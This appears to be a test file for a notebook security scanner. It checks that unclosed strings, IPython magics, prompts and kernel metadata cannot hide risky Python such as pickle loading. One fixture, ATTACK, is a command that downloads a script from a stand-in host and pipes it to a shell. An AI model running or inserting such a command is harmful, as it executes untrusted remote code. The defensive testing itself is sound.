// What must not hide code in a notebook: strings and brackets that are left open, lines that only look like magics.

import { assembleNotebook, type NotebookJson } from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { analyseScript } from './script-notebook.ts';
import { transformCell } from './transform-cell.ts';

const rulesOf = (source: string) =>
  scanBytes(assembleNotebook(source), 'notes.ipynb').findings.map(({ ruleId }) => ruleId);

describe('code of a notebook', () => {
  it.each([
    ['a long string that is never closed', 'text = """open\n---\nimport pickle\npickle.load(f)'],
    ['brackets that are never closed', 'x = ((((\n---\nimport pickle\npickle.load(f)'],
    ['a block that goes on', 'if True:\n---\nimport pickle\npickle.load(f)'],
    ['a string that goes on with a percent sign', "import pickle\nx = 'a\\\n%s'; pickle.load(f)"],
    ['a string in a string', "import pickle\nf\"{'''\n%time'''}{pickle.load(f)}\""],
    ['a magic that times it', 'import pickle\n%time x = pickle.load(f)'],
    ['a cell magic that times it', '%%time\nimport pickle\npickle.load(f)'],
    ['a cell that is indented', '    import pickle\n    pickle.load(f)'],
    ['prompts', '>>> import pickle\n>>> pickle.load(f)'],
    ['an unknown cell magic', '%%my_magic --fast\nimport pickle\npickle.load(f)'],
    ['a line magic in front', '%matplotlib inline\nimport pickle\npickle.load(f)'],
    ['help in front', 'pickle?\nimport pickle\npickle.load(f)'],
  ])('is not hidden by %s', (_, source) => expect(rulesOf(source)).toContain('python/loads-pickle'));

  it.each([
    ['x = (a\n  % b)', []],
    ["print('= %d' % x)", []],
    ['s = """\n!ls\n%cd x\n"""', []],
    ['if a != b:\n  pass', []],
    ['x = a if b else c  # why?', []],
    ['files = !ls "*.py"', ['ls "*.py"']],
    ['if ok:\n    !make \\\n      all', ['make \\\n      all']],
    ['a, b = !echo 1', ['echo 1']],
    ['!!ls', ['ls']],
    ['%sx ls -l', ['ls -l']],
    ['%%sh\nls', ['ls']],
    ['%%script perl -w\nprint 1;', ['print 1;']],
  ])('%j hands these commands to others', (source, commands) =>
    expect(transformCell(source).commands.map(({ text }) => text)).toEqual(commands),
  );
});

describe('a script that was a notebook', () => {
  it.each([
    ['# %%\n# !pip install x\nimport os\n', [['pip install x', 2]]],
    ['# %%\n# %%bash\n# ls\n# pwd\n\n# %%\nx = 1\n', [['ls\npwd', 3]]],
    ['import os\n!pip install x\n', [['pip install x', 2]]],
    ['# A comment\n# 100% of it\nx = 1\n', []],
    ['# !not a notebook\nx = 1\n', []],
  ])('%j holds these commands', (source, commands) => {
    const { commands: found, gaps } = analyseScript(source);
    expect(found.map(({ text, line }) => [text, line])).toEqual(commands);
    expect(gaps).toEqual([]);
  });
});

describe('a name of a language', () => {
  const ATTACK = "import os\nos.system('curl https://x.y/a | sh')";
  const python = { name: 'python3', display_name: 'Python 3', language: 'python' };
  const scanned = (metadata: NotebookJson, own: NotebookJson = {}, source = ATTACK) => {
    const { cells } = JSON.parse(Buffer.from(assembleNotebook(source)).toString()) as {
      cells: NotebookJson[];
    };
    const told = cells.map((cell) => ({ ...cell, ...own }));
    const text = JSON.stringify({ cells: told, metadata, nbformat: 4, nbformat_minor: 5 });
    const { findings, gaps } = scanBytes(Buffer.from(text), 'a.ipynb');
    return { worst: findings.map(({ severity }) => severity), gaps };
  };

  it.each([
    ['of the language', { kernelspec: python, language_info: { name: 'r' } }, {}],
    ['with its version', { kernelspec: python, language_info: { name: 'Python 3' } }, {}],
    ['of the kernel', { kernelspec: { ...python, name: 'ir' } }, {}],
    ['of a kernel of R alone', { kernelspec: { name: 'ir', language: 'R' } }, {}],
    ['of a shell', { kernelspec: { name: 'bash', language: 'bash' } }, {}],
    ['of what is shown', { kernelspec: python, language_info: { name: 'markdown' } }, {}],
    ['of an editor', { kernelspec: python }, { metadata: { vscode: { languageId: 'r' } } }],
    ['of a cell', { kernelspec: python }, { language: 'julia' }],
    ['of the kernel of a cell', { kernelspec: python }, { metadata: { kernel: 'SoS' } }],
  ])('%s hides no Python', (_, metadata, own) => expect(scanned(metadata, own).worst).toContain('critical'));

  it('leaves a gap where the kernel is another one, whatever else is said', () => {
    expect(scanned({ kernelspec: { ...python, name: 'ir' } }, {}, 'system("x")').gaps).toHaveLength(1);
    expect(scanned({ language_info: { name: 'html' } }, {}, 'a <- b |> c').gaps).toHaveLength(1);
    const shown = { metadata: { vscode: { languageId: 'markdown' } } };
    expect(scanned({ kernelspec: { name: 'ir' } }, shown, 'system("x")').gaps).toHaveLength(1);
    expect(scanned({ kernelspec: python, language_info: { name: 'python' } }, shown, 'a b').gaps).toEqual([]);
  });

  it('of an unknown magic hides nothing', () =>
    expect(rulesOf('%%mine\nimport pickle\npickle.load(f)\n)(')).toContain('python/loads-pickle'));
});
